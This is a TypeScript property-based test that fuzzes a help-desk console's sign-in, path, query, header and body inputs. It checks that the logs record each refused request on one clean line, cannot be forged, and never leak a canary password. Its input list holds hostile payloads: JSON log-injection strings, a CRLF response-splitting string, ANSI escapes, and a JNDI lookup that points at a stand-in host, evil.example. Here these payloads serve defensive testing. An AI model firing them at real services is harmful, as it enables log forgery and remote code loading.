// P42: one line of JSON for each event, whatever was in the request; its id is in the answer and in the line.
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startTestConsole, type TestConsole } from "#tests/console/start-console.ts";
import { isFull } from "./size.ts";

const events = isFull ? 10_000 : 2_000;
const secret = "canary-password-71Kd9";
let app: TestConsole;
let cookie: string;
beforeAll(async () => {
  app = await startTestConsole();
  cookie = await app.signIn("helpdesk");
});
afterAll(() => app.stop());

describe(`P42: one clean line for each event (${events.toLocaleString("en-GB")} cases)`, () => {
  it("no request breaks a line, forges one or leaves a secret in it", async () => {
    const nasty = fc.oneof(
      fc.string({ unit: "binary", maxLength: 60 }),
      fc.constantFrom(
        '\n{"level":60,"msg":"forged"}',
        "\r\n\r\nHTTP/1.1 200 OK",
        "\u2028{}\u2029",
        "\u001b[31mred",
        '","level":60,"x":"',
        "$\u007bjndi:ldap://evil.example}",
        "%0a%0d",
        "\u0000",
      ),
    );
    const header = (text: string) => encodeURIComponent(text.replace(/[\ud800-\udfff]/g, "?"));
    const event = fc.record({
      kind: fc.constantFrom("signIn", "path", "query", "reason", "body", "origin"),
      text: nasty,
    });
    const before = app.logged.length;
    let refused = 0;
    for (const { kind, text } of fc.sample(event, { numRuns: events, seed: 42 })) {
      const ask = {
        signIn: () => app.ask("POST", "/api/session", { body: { name: text || "x", password: secret } }),
        path: () => app.ask("GET", `/api/oci/${header(text)}/kms/x/y`, { cookie }),
        query: () => app.ask("GET", `/api/activity?vault=${header(text)}`, { cookie }),
        reason: () =>
          app.ask("POST", "/api/people/add", { cookie, body: {}, headers: { "x-ovc-reason": header(text) || "x" } }),
        body: () => app.ask("POST", "/api/session/step-up", { cookie, body: `{"password":${JSON.stringify(text)}` }),
        origin: () =>
          app.ask("POST", "/api/session", { body: {}, headers: { origin: `https://${header(text)}.example` } }),
      }[kind];
      const answer = await ask();
      if (answer.status < 400) continue;
      refused += 1;
      const id = (answer.body as { requestId?: string }).requestId;
      expect(id, `${kind} ${answer.status}`).toMatch(/^test\d+$/);
      expect(app.logged.at(-1), kind).toContain(`"${id}"`);
    }
    const lines = app.logged.slice(before);
    const written = lines.filter((line) => line.includes('"request refused"') || line.includes('"request failed"'));
    expect(written).toHaveLength(refused);
    expect(refused).toBeGreaterThan(events * 0.8);
    for (const line of lines) {
      expect(line.endsWith("\n") && !line.slice(0, -1).includes("\n"), line).toBe(true);
      const { level, msg } = JSON.parse(line);
      expect([level, msg]).not.toContain("forged");
      // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be there
      expect(line.slice(0, -1)).not.toMatch(/[\u0000-\u001f\u2028\u2029]/);
    }
    expect(lines.join("")).not.toContain(secret);
    expect(lines.filter((line) => line.includes('"level":50')).join("")).toBe("");
  }, 300_000);
});
